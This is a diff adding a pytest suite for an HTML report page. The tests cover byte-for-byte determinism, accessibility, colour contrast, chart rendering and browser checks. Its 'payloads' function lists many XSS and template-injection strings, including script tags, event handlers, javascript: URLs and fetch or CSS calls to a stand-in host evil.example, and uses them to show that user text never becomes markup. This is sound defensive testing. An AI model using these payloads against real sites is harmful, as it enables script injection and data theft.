@@ -1,0 +1,392 @@
+"""The page: the same bytes for the same rows, nothing of what people wrote is ever markup, and it can be read on every surface."""
+
+import os
+import re
+import shutil
+from dataclasses import replace
+from datetime import timedelta
+from itertools import pairwise
+from pathlib import Path
+
+import pytest
+from selectolax.lexbor import LexborHTMLParser
+
+from tests.warehouse.report_world import SLUG, world
+from tests.warehouse.test_withholding import LEVELS, MONDAY
+from warehouse.build import make, open_memory, open_scratch
+from warehouse.catalog import catalog
+from warehouse.model import Header, Measure, Model
+from warehouse.report.chart import Axis, Line, Point, history
+from warehouse.report.data import Estimate, ReportData, Shown, period_of, plain, report_data
+from warehouse.report.page import TEMPLATE, render
+
+PERIOD = period_of("2024-03")
+GOLDEN = Path(__file__).parent / "golden_report.html"
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+FLAGS = "--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update --disable-sync"
+TAGS = {
+    "-text",
+    "html",
+    "head",
+    "meta",
+    "link",
+    "title",
+    "style",
+    "body",
+    "main",
+    "header",
+    "section",
+    "article",
+    "div",
+    "figure",
+    "figcaption",
+    "h1",
+    "h2",
+    "h3",
+    "p",
+    "bdi",
+    "ul",
+    "li",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "small",
+    "br",
+    "a",
+    "svg",
+    "desc",
+    "line",
+    "text",
+    "polygon",
+    "polyline",
+    "circle",
+}
+
+
+@pytest.fixture(scope="module")
+def con():
+    con = open_memory()
+    open_scratch(con, [], MONDAY, None)
+    for model in catalog():
+        make(con, model)
+    yield con
+    con.close()
+
+
+@pytest.fixture(scope="module")
+def page(con):
+    world(con)
+    return render(report_data(con, SLUG, PERIOD))
+
+
+# ---- the same bytes
+
+
+def test_the_same_rows_give_the_same_bytes_in_whatever_order_they_lie(con, page):
+    for seed in range(3):
+        world(con, shuffle=seed)
+        assert render(report_data(con, SLUG, PERIOD)) == page
+    data = report_data(con, SLUG, PERIOD)
+    assert {render(data) for _ in range(20)} == {page}
+
+
+def small_report():
+    """A report that depends on no table and no metric of the catalog."""
+    at = [MONDAY - timedelta(weeks=n) for n in range(30, -1, -1)]
+
+    def model(id, kind, **measure):
+        header = Header(
+            id=id,
+            title=f"Title of {id}",
+            summary=f"What {id} is.",
+            grain=("community", "window_end"),
+            source=(),
+            columns={"community": "the community", "window_end": "the evaluation", "value": "the value"},
+            unit="share",
+            direction="neither",
+            needs=("chat or wiki talk",),
+            minimum="20 threads",
+            reference="Somebody 2020.",
+            reading="How to read it.",
+            caveats=("A caveat.",),
+            measure=Measure(value="value", kind=kind, counts="people", **measure),
+        )
+        return Model("metrics", id.lower(), header, "", Path(f"{id}.sql"))
+
+    def one(moment, part, value, step, low=None, high=None, withheld=None):
+        return Estimate(moment, part, value, low, high, None, None, None, withheld, step, None)
+
+    def shown(model, *estimates):
+        return Shown(model, tuple(e for e in estimates if e.at == MONDAY), estimates)
+
+    cells = [one(m, level, 5.0 * (1 + (n + i) % 4), 5.0) for n, m in enumerate(at) for i, level in enumerate(LEVELS)]
+    shares = [one(m, "", round(0.3 + 0.01 * n, 2), 0.1, 0.2, 0.8) for n, m in enumerate(at)]
+    return ReportData(
+        community="c",
+        title="A & <b>B</b>",
+        time_zone="UTC",
+        period=PERIOD,
+        evaluation=MONDAY,
+        window_start=at[-13],
+        beat_days=7,
+        confidence={},
+        metrics=(
+            shown(model("P2", "distribution"), *cells),
+            shown(model("P3", "share"), *shares),
+            shown(model("H1", "share")),
+            shown(model("X1", "people"), *[one(m, "", None, None, withheld="fewer than 5") for m in at]),
+        ),
+        moves=(),
+    )
+
+
+def test_the_page_of_a_small_report_is_the_one_that_was_looked_at():
+    """After a change that is meant: GOLDEN=write pytest tests/warehouse/test_report_page.py, and look at what it wrote."""
+    fresh = render(small_report())
+    if os.environ.get("GOLDEN") == "write":
+        GOLDEN.write_text(fresh, encoding="utf-8")
+    assert fresh == GOLDEN.read_text(encoding="utf-8")
+
+
+# ---- what it says
+
+
+def test_a_metric_without_rows_is_not_measured_and_names_the_doors_that_would_feed_it(page):
+    card = LexborHTMLParser(page).css_first("#H1")
+    assert "Not measured" in card.text()
+    assert "a chat door (Slack, Zulip, IRC) or a wiki door with talk pages (MediaWiki)" in card.text()
+    assert card.css_first("svg") is None
+
+
+def test_every_metric_with_a_value_has_its_chart_its_definition_and_its_caveats(page, con):
+    tree = LexborHTMLParser(page)
+    cards = tree.css("article.card")
+    assert len(cards) >= 14
+    for card in cards:
+        if card.attributes["id"] != "H1":
+            assert card.css_first("svg"), card.attributes["id"]
+        assert card.css(".more li")
+
+
+def test_the_banner_says_what_was_not_heard(page):
+    banner = LexborHTMLParser(page).css_first(".banner").text()
+    assert "Read with care" in banner
+    assert "2 of 3 doors were heard from in time" in banner
+
+
+def test_no_word_of_a_trend_is_said(page):
+    text = LexborHTMLParser(page).body.text().lower()
+    assert not re.search(r"\b(improved|worsened|rising|falling|upward|downward|steady|trending)\b", text)
+
+
+def test_numbers_of_people_are_multiples_of_five_wherever_they_stand(con, page):
+    """In words, and in the charts' points: what a chart knows is what the table knows."""
+    data = report_data(con, SLUG, PERIOD)
+    for shown in data.metrics:
+        if shown.model.header.measure.kind in ("people", "distribution"):
+            assert all(e.value is None or e.value % 5 == 0 for e in shown.history)
+    assert not re.search(r"\bnumerator\b", page)
+
+
+def test_headings_come_in_order_and_every_chart_has_its_own_title_and_description(page):
+    tree = LexborHTMLParser(page)
+    order = [int(node.tag[1]) for node in tree.css("h1, h2, h3")]
+    assert order[0] == 1
+    assert order.count(1) == 1
+    assert all(after <= before + 1 for before, after in pairwise(order))
+    ids = [node.attributes["id"] for node in tree.css("[id]")]
+    assert len(ids) == len(set(ids))
+    for svg in tree.css("svg"):
+        assert svg.attributes["role"] == "img"
+        for id in svg.attributes["aria-labelledby"].split():
+            assert tree.css_first(f"#{id}").text().strip()
+    assert tree.css_first("html").attributes["lang"] == "en"
+    assert all(th.attributes.get("scope") for th in tree.css("th"))
+
+
+def luminance(colour):
+    digits = colour.lstrip("#")
+    digits = "".join(d * 2 for d in digits) if len(digits) == 3 else digits
+    parts = [int(digits[i : i + 2], 16) / 255 for i in (0, 2, 4)]
+    red, green, blue = (p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts)
+    return 0.2126 * red + 0.7152 * green + 0.0722 * blue
+
+
+def contrast(one, other):
+    light, dark = sorted((luminance(one), luminance(other)), reverse=True)
+    return (light + 0.05) / (dark + 0.05)
+
+
+def test_text_has_the_contrast_of_aa_on_every_ground():
+    named = dict(re.findall(r"--(\w+): (#[0-9a-f]{3,6})", TEMPLATE))
+    for ground in ("paper", "wash"):
+        for ink in ("ink", "soft", "a"):
+            assert contrast(named[ink], named[ground]) >= 4.5, (ink, ground)
+    for colour in re.findall(r"\.name\.l\d \{ fill: (#[0-9a-f]{3,6})", TEMPLATE):
+        assert contrast(colour, named["paper"]) >= 4.5
+    assert contrast(named["a"], named["band"]) >= 3  # the line on its band
+
+
+def test_lines_are_told_apart_by_more_than_colour():
+    points = tuple(Point(MONDAY + timedelta(weeks=n), float(n)) for n in range(5))
+    drawn = history("x", "t", "d", [Line(f"Series {n}", points) for n in range(3)], Axis("days"))
+    assert len(set(re.findall(r'stroke-dasharray="([^"]+)"', drawn))) == 3
+    assert all(f"Series {n}" in drawn for n in range(3))
+
+
+def test_one_point_is_no_history():
+    assert "<svg" not in history("x", "t", "d", [Line("", (Point(MONDAY, 1.0),))], Axis("days"))
+
+
+# ---- what people wrote
+
+
+def payloads():
+    scripts = [
+        "<script>{x}</script>", "<ScRiPt>{x}</sCrIpT>", "<img src=x onerror={x}>", "<svg onload={x}>", "<svg/onload={x}//", "</title><script>{x}</script>",
+        "</style><script>{x}</script>", "</svg><script>{x}</script>", "</desc><image href=//evil.example/{x}>", "<iframe src='javascript:{x}'></iframe>",
+        "<a href='javascript:{x}'>a</a>", "<body onload={x}>", "<math><mtext><script>{x}</script>", "<details open ontoggle={x}>", "<input autofocus onfocus={x}>",
+        "'\"><script>{x}</script>", '" onmouseover={x} x="', "' onclick={x} '", "--><script>{x}</script><!--", "]]><script>{x}</script>", "<!--{x}",
+        "<link rel=stylesheet href=//evil.example/{x}>", "<meta http-equiv=refresh content='0;url=//evil.example/{x}'>", "<base href=//evil.example/{x}>",
+        "<object data=//evil.example/{x}></object>", "<embed src=//evil.example/{x}>", "<form action=//evil.example/{x}><button>", "<style>*{{background:url(//evil.example/{x})}}</style>",
+        "}}body{{background:url(https://evil.example/{x})}}", "expression({x})", "url(javascript:{x})", "@import '//evil.example/{x}';", "javascript:{x}", "data:text/html,<script>{x}</script>",
+        "file:///etc/passwd?{x}", "{{{{ {x} }}}}", "{{% for a in b %}}{x}", "{{{{ self.__init__.__globals__ }}}}", "${{{x}}}", "#{{{x}}}", "<%= {x} %>", "%s%n{x}", "{{0.__class__}}{x}",
+        "\u202e{x}\u202d", "\u2066{x}\u2069", "\u200f{x}", "\x00{x}", "<scr\x00ipt>{x}</script>", "\x1b[31m{x}", "\ud800{x}", "\ufeff{x}", "&lt;script&gt;{x}", "&#60;script&#62;{x}",
+        '=HYPERLINK("//evil.example",{x})', "+{x}", "@{x}", "<{x}", ">{x}", "&{x};", "\r\n<b>{x}", "<plaintext>{x}", "<textarea>{x}", '<noscript><p title="</noscript><img src=x onerror={x}>">',
+        "<template><script>{x}</script></template>", "<svg><style><img src=x onerror={x}></style></svg>", "<svg><foreignObject><script>{x}</script></foreignObject></svg>", "<svg><use href=//evil.example/{x}#a>",
+    ]  # fmt: skip
+    return [script.format(x=x) for x in ("alert(1)", "fetch('//evil.example')", "x" * 300) for script in scripts]
+
+
+def shape(page):
+    """Tags with their attributes, in order; without what is text."""
+    tree = LexborHTMLParser(page)
+    nodes = [node for node in tree.root.traverse() if node.tag != "-text"]
+    return [(node.tag, tuple(sorted(node.attributes.items()))) for node in nodes]
+
+
+def test_hostile_titles_and_texts_change_no_tag_and_no_attribute(con):
+    hostile = payloads()
+    assert len(hostile) >= 200
+    world(con)
+    data = report_data(con, SLUG, PERIOD)
+    expected = shape(render(data))
+    assert {tag for tag, _ in expected} <= TAGS
+    small = small_report()
+    plain_shape = shape(render(small))
+    for number, payload in enumerate(hostile):
+        evil = replace(small, title=plain(payload) or "c", metrics=tuple(_worded(shown, payload) for shown in small.metrics))
+        page = render(evil)
+        assert shape(page) == plain_shape, payload
+        assert LexborHTMLParser(page).css_first("h1").text() == (plain(payload) or "c")
+        assert not set(page) & set("\x00\x1b\u202e\u202d\u2066\u2069\u200f\ufeff"), payload
+        if number % 40 == 0:  # and once from the tables themselves
+            world(con, title=payload.replace("\ud800", ""), part=payload.replace("\ud800", ""))
+            assert shape(render(report_data(con, SLUG, PERIOD))) == expected, payload
+
+
+def _worded(shown, payload):
+    def evil(e):
+        return replace(e, withheld=plain(payload) or "x") if e.withheld else e
+
+    return replace(shown, latest=tuple(map(evil, shown.latest)), history=tuple(map(evil, shown.history)))
+
+
+def test_the_page_names_nothing_outside_itself(page):
+    tree = LexborHTMLParser(page)
+    addresses = [
+        node.attributes.get(name)
+        for node in tree.css("[href], [src], [action], [data]")
+        for name in ("href", "src", "action", "data")
+    ]
+    assert {a for a in addresses if a and not a.startswith("#")} == {"data:,"}
+    assert "url(" not in page
+    assert "@import" not in page
+    assert "default-src 'none'" in page
+
+
+# ---- in a browser
+
+
+@pytest.fixture(scope="module")
+def browser():
+    if CHROMIUM is None:
+        pytest.skip("no Chromium on this machine: the page is not opened")
+    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
+    with sync_api.sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS.split())
+        yield browser
+        browser.close()
+
+
+@pytest.fixture(scope="module")
+def place(page, tmp_path_factory):
+    path = tmp_path_factory.mktemp("page") / "index.html"
+    path.write_text(page, encoding="utf-8")
+    return path
+
+
+OUTSIDE = """() => {
+    const wide = document.documentElement.clientWidth;
+    return [...document.body.querySelectorAll('*')].filter(e => {
+        const box = e.getBoundingClientRect();
+        return box.width > 0 && (box.right > wide + 0.5 || box.left < -0.5);
+    }).map(e => e.outerHTML.slice(0, 120));
+}"""
+SMALL_TEXT = """() => [...document.querySelectorAll('svg text')].map(t => {
+    const svg = t.ownerSVGElement, scale = svg.getBoundingClientRect().width / svg.viewBox.baseVal.width;
+    return parseFloat(getComputedStyle(t).fontSize) * scale;
+})"""
+OVERLAPS = """() => [...document.querySelectorAll('svg')].flatMap(svg => {
+    const texts = [...svg.querySelectorAll('text')].map(t => [t.textContent, t.getBoundingClientRect()]);
+    return texts.flatMap(([a, x], i) => texts.slice(i + 1).filter(([b, y]) =>
+        x.left < y.right - 1 && y.left < x.right - 1 && x.top < y.bottom - 4 && y.top < x.bottom - 4).map(([b, y]) => `${svg.textContent.slice(0, 40)}: ${a} / ${b}`));
+})"""
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize(("width", "media"), [(1280, "screen"), (390, "screen"), (680, "print")])
+def test_it_fits_every_surface_asks_for_nothing_and_says_nothing_to_the_console(browser, place, width, media):
+    context = browser.new_context(viewport={"width": width, "height": 900}, java_script_enabled=True)
+    tab = context.new_page()
+    asked, said = [], []
+    tab.on("request", lambda request: asked.append(request.url))
+    tab.on("console", lambda message: said.append(message.text))
+    tab.on("pageerror", lambda error: said.append(str(error)))
+    tab.emulate_media(media=media)
+    tab.goto(place.as_uri())
+    assert tab.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
+    assert tab.evaluate(OUTSIDE) == []
+    assert tab.evaluate(OVERLAPS) == []
+    assert min(tab.evaluate(SMALL_TEXT)) >= (8.5 if media == "print" else 10)
+    assert {url for url in asked if not url.startswith("data:")} == {place.as_uri()}
+    assert said == []
+    context.close()
+
+
+@pytest.mark.browser
+def test_it_is_whole_with_javascript_off(browser, place):
+    context = browser.new_context(java_script_enabled=False)
+    tab = context.new_page()
+    tab.goto(place.as_uri())
+    assert tab.locator("h1").inner_text() == "Gardeners of the valley"
+    assert tab.locator("svg").count() >= 15
+    assert tab.locator("article.card .more p").first.is_visible()
+    context.close()
+
+
+@pytest.mark.browser
+def test_the_printed_pages_are_few_and_cut_no_card(browser, place):
+    tab = browser.new_page()
+    tab.goto(place.as_uri())
+    printed = tab.pdf(prefer_css_page_size=True, print_background=True)
+    assert printed.startswith(b"%PDF")
+    assert 3 <= printed.count(b"/Type /Page\n") + printed.count(b"/Type /Page ") <= 20
+    tab.emulate_media(media="print")
+    assert tab.evaluate(
+        "[...document.querySelectorAll('.card, figure')].every(e => getComputedStyle(e).breakInside === 'avoid')"
+    )
+    tab.close()
